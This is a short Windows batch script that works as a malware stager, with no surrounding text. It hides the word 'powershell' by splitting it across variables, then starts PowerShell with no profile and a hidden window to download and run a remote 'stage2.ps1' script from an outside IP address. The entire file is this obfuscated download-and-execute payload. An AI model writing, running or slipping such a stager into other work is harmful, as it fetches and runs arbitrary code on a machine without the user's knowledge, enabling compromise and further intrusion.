@echo off
set "a=pow"
set b=ersh
set c=ell
set u=http://198.51.100.23/stage2.ps1
%a%%b%%c% -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString('%u%')"
